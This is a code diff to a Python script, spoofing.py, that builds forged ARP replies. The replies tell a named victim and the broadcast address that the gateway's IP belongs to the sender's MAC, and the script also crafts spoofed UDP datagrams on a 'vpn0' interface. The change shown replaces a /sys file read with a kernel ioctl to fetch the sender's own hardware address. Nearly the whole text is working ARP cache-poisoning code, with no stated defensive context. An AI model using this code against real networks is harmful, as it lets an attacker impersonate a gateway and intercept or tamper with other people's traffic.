@@ -5,17 +5,25 @@ usage: spoofing.py VICTIM VICTIM_MAC GATEWAY GATEWAY_MAC OUTSIDE. Prints how man
 
 from __future__ import annotations
 
-import pathlib
+import fcntl
 import socket
 import struct
 import sys
 
 VICTIM, VICTIM_MAC, GATEWAY, GATEWAY_MAC, OUTSIDE = sys.argv[1:]
 LINK, ROUNDS = "vpn0", 20
+SIOCGIFHWADDR = 0x8927
 
 
 def hardware(text: str) -> bytes:
     return bytes.fromhex(text.strip().replace(":", ""))
+
+
+def own_hardware() -> bytes:
+    """Ask the kernel: /sys may show another network."""
+    with socket.socket(type=socket.SOCK_DGRAM) as any_socket:
+        told = fcntl.ioctl(any_socket, SIOCGIFHWADDR, struct.pack("256s", LINK.encode()))
+    return bytes(told[18:24])
 
 
 def claim(address: str, receiver: bytes, owner: bytes) -> bytes:
@@ -36,7 +44,7 @@ def datagram(source: str, sender: bytes) -> bytes:
     return hardware(GATEWAY_MAC) + sender + b"\x08\x00" + header + udp
 
 
-own = hardware(pathlib.Path(f"/sys/class/net/{LINK}/address").read_text())
+own = own_hardware()
 frames = (
     claim(GATEWAY, hardware(VICTIM_MAC), own),
     claim(GATEWAY, b"\xff" * 6, own),
